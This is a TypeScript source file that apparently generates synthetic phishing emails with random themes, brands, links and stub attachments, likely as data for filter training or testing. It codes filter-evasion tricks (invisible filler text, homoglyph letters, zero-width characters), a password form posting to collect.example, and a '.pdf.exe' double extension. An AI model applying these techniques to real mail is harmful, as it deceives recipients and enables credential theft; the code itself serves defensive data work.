import { baitSender } from "./bait-sender.ts";
import type { Chance } from "./chance.ts";
import type { Draft } from "./draft.ts";
import type { Page } from "./html.ts";
import { baitLink, baitMailto } from "./links.ts";
import { brandName, shopName } from "./names.ts";
import type { Phrases, Theme, Tongue } from "./phrases.ts";
import { filled, slotsOf } from "./slots.ts";
import { tongues } from "./tongues.ts";

const themes: readonly (readonly [Theme, number])[] = [
  ["account", 0.25],
  ["money", 0.12],
  ["parcel", 0.08],
  ["authority", 0.05],
  ["prize", 0.13],
  ["wallet", 0.07],
  ["document", 0.08],
  ["fortune", 0.08],
  ["threat", 0.02],
  ["offer", 0.14],
  ["boss", 0.02],
];
const withoutLinks: ReadonlySet<Theme> = new Set(["fortune", "threat", "boss"]);

/** Draws one phishing mail. */
export function bait(chance: Chance): { draft: Draft; tongue: string } {
  const tongue = chance.weighted(tongues);
  const theme = themeOf(chance, tongue);
  const phrases = tongue.bait[theme]!;
  const brand = chance.is(0.6) ? brandName(chance) : { shown: shopName(chance), word: shopName(chance).toLowerCase(), domain: "" };
  const sender = baitSender(chance, { theme, brand: brand.shown, word: brand.word, phrases });
  const slots = slotsOf(chance, brand.shown);
  const fill = (text: string) => filled(text, slots);
  const { page, isHtml } = pageOf(chance, { theme, tongue, phrases, brand: brand.word, mail: slots.mail, fill });
  const subject = disguised(chance, fill(subjectOf(chance, phrases)), 0.04);
  return {
    tongue: tongue.name,
    draft: { ...sender, subject, page, isHtml, files: filesOf(chance, theme, fill), kind: theme },
  };
}

function themeOf(chance: Chance, tongue: Tongue): Theme {
  return chance.weighted(themes.filter(([theme]) => tongue.bait[theme] !== undefined));
}

function subjectOf(chance: Chance, { subjects, lines }: Phrases): string {
  const subject = chance.is(0.88) ? chance.of(subjects) : chance.of(lines).slice(0, 70);
  const before = chance.weighted([
    ["", 0.72],
    ["Re: ", 0.05],
    ["FW: ", 0.02],
    ["⚠ ", 0.04],
    ["🔔 ", 0.03],
    ["🎁 ", 0.03],
    ["{mail} ", 0.03],
    ["(1) ", 0.03],
    ["{brand} - ", 0.05],
  ]);
  const after = chance.weighted([
    ["", 0.7],
    [" {id}", 0.08],
    [" #{id}", 0.06],
    ["!", 0.06],
    ["!!", 0.03],
    [" - {date}", 0.05],
    [" ✔", 0.02],
  ]);
  const whole = `${before}${subject}${after}`;
  return chance.is(0.05) ? whole.toUpperCase().replace(/\{(\w+)\}/g, (slot) => slot.toLowerCase()) : whole;
}

type Parts = {
  readonly theme: Theme;
  readonly tongue: Tongue;
  readonly phrases: Phrases;
  readonly brand: string;
  readonly mail: string;
  readonly fill: (text: string) => string;
};

function pageOf(chance: Chance, { theme, tongue, phrases, brand, mail, fill }: Parts): { page: Page; isHtml: boolean } {
  const isLinkless = withoutLinks.has(theme) && chance.is(0.85);
  const isHtml = isLinkless ? chance.is(0.3) : chance.is(0.9);
  const isPicture = isHtml && !isLinkless && chance.is(theme === "prize" || theme === "offer" ? 0.35 : 0.08);
  const target = baitLink(chance, { brand, mail });
  const lines = isPicture
    ? chance.is(0.5)
      ? [chance.of(phrases.lines)]
      : []
    : chance.some(phrases.lines, chance.whole(1, Math.min(5, phrases.lines.length)));
  const greeting = chance.is(isPicture ? 0.1 : 0.65) ? [chance.of(chance.is(0.75) ? tongue.strangers : tongue.greetings)] : [];
  const closing = chance.is(0.6) && !isPicture ? [chance.of(tongue.closings)] : [];
  const links =
    isLinkless || isPicture
      ? []
      : Array.from({ length: chance.whole(1, 3) }, () => ({
          text: buttonOf(chance, phrases, tongue),
          target: chance.is(0.8) ? target : baitLink(chance, { brand, mail }),
        }));
  if (!isLinkless && chance.is(theme === "account" ? 0.12 : 0.03))
    links.push({ text: buttonOf(chance, phrases, tongue), target: baitMailto(chance) });
  return {
    isHtml,
    page: {
      paragraphs: [...greeting, ...lines, ...closing].map((text) => disguised(chance, fill(text), 0.03)),
      links: links.map(({ text, target: to }) => ({ text: fill(text), target: to })),
      footer: chance.is(0.3) ? [fill(chance.of([...tongue.closings, "Unsubscribe", "To stop receiving these messages click here"]))] : [],
      pictures:
        isHtml && (isPicture || chance.is(0.5))
          ? [{ source: `${target.replace(/[?#].*$/, "")}/i.png`, target: isPicture || chance.is(0.3) ? target : undefined }]
          : [],
      hidden:
        isHtml && chance.is(0.2)
          ? {
              text: filler(chance, tongue),
              style: chance.of(["display:none", "font-size:0px", "color:#ffffff", "opacity:0", "visibility:hidden", "display:none"]),
            }
          : undefined,
    },
  };
}

function buttonOf(chance: Chance, phrases: Phrases, tongue: Tongue): string {
  const own = phrases.buttons;
  return own.length > 0 ? chance.of(own) : chance.of(tongue.bait.account?.buttons ?? ["OK"]);
}

/** Ordinary words that are to lead filters astray. */
function filler(chance: Chance, tongue: Tongue): string {
  const lines = Object.values(tongue.plain).flatMap((phrases) => phrases?.lines ?? []);
  return chance.some(lines, chance.whole(1, 14)).join(" ").replace(/[{}]/g, "");
}

/** Now and then letters are swapped for look-alikes, or broken up by marks without width. */
function disguised(chance: Chance, text: string, probability: number): string {
  if (!chance.is(probability)) return text;
  if (chance.is(0.5))
    return text.replace(/[aeocp]/g, (letter) => (chance.is(0.4) ? { a: "а", e: "е", o: "о", c: "с", p: "р" }[letter]! : letter));
  return [...text].map((letter) => (chance.is(0.3) ? `${letter}\u200b` : letter)).join("");
}

function filesOf(chance: Chance, theme: Theme, fill: (text: string) => string): Draft["files"] {
  if (!chance.is(theme === "document" || theme === "money" ? 0.3 : 0.03)) return [];
  const name = fill(chance.of(["invoice {id}", "payment copy", "scan {id}", "voice message", "document", "order {id}", "statement"]));
  return [
    chance.weighted([
      [
        {
          name: `${name}.html`,
          mediaType: "text/html",
          content: '<html><body><form action="https://collect.example/x.php"><input type="password" name="p"></form></body></html>',
        },
        0.35,
      ],
      [
        {
          name: `${name}.pdf`,
          mediaType: "application/pdf",
          content: "%PDF-1.4\n1 0 obj << /Type /Annot /A << /S /URI /URI (https://files.example/x) >> >> endobj\n%%EOF",
        },
        0.3,
      ],
      [
        {
          name: `${name}.zip`,
          mediaType: "application/zip",
          content: "PK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
        },
        0.15,
      ],
      [{ name: `${name}.pdf.exe`, mediaType: "application/octet-stream", content: "MZ\x90\x00program" }, 0.1],
      [{ name: `${name}.js`, mediaType: "text/plain", content: "WScript.Echo(1)" }, 0.1],
    ]),
  ];
}
